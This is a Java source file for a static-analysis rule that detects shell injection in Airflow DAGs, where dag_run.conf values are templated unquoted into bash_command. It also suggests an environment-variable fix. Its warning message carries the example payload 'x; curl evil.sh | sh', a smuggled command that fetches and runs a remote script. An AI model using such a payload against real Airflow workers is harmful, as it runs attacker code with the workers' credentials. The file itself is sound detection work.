package dev.srereview.evidence.python;

import dev.srereview.evidence.Category;
import dev.srereview.evidence.Severity;
import java.nio.charset.StandardCharsets;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * shell-injection, the Airflow case: a BashOperator's {@code bash_command} that templates what the person triggering
 * the run typed ({@code {{ dag_run.conf['table'] }}}). Jinja pastes the value into the script unquoted, so anyone who
 * can trigger the DAG (the UI, the REST API) runs shell commands on the worker with its credentials. The scheduler's
 * own macros ({@code {{ ds }}}, {@code {{ run_id }}}) are not client input.
 */
final class AirflowTemplateRules implements NodeRule {
    private static final byte[] DAG_RUN = "dag_run".getBytes(StandardCharsets.US_ASCII);
    private static final Pattern CONF = Pattern.compile("\\{\\{[^}]*\\bdag_run\\.conf\\b[^}]*}}");
    /** Operator arguments that are a shell script. */
    private static final Set<String> SCRIPT_ARGUMENTS = Set.of("bash_command", "command", "cmds");

    @Override
    public Set<String> nodeTypes() {
        return Set.of("string");
    }

    @Override
    public void check(PyNode s, Scan scan) {
        if (!scan.role().production() || !s.textContains(DAG_RUN) || !scan.module.importsAny("airflow")) {
            return;
        }
        PyNode arg = s.parent;
        while (arg != null && (arg.is("concatenated_string") || arg.is("parenthesized_expression")
                || arg.is("binary_operator") || arg.is("list"))) {
            arg = arg.parent;
        }
        if (arg == null || !arg.is("keyword_argument") || arg.field("name") == null
                || !SCRIPT_ARGUMENTS.contains(arg.field("name").text())) {
            return;
        }
        var m = CONF.matcher(s.text());
        if (!m.find() || !scan.first("airflow-conf:" + arg.startByte)) {
            return;
        }
        String expr = m.group();
        scan.emit("PY-SHELL-002", Category.SHELL_INJECTION, Severity.P1, s,
                "`" + arg.field("name").text() + "` pastes `" + expr + "` into the shell script unquoted: whoever can "
                        + "trigger this DAG (the UI, the REST API, a CLI with conf) chooses the text, so `x; curl "
                        + "evil.sh | sh` runs on the worker with its connections and credentials.",
                "# pass the value through the environment, quoted by the shell, and check it first:\n"
                        + "env={\"SOURCE_VIEW\": \"{{ dag_run.conf.get('source_view', 'staging.sales_daily') }}\"},\n"
                        + "bash_command='[[ \"$SOURCE_VIEW\" =~ ^[a-z_]+\\.[a-z_]+$ ]] || exit 2; psql -c \"REFRESH ... $SOURCE_VIEW\"'\n"
                        + "# or use a PythonOperator that validates against an allow-list");
    }
}
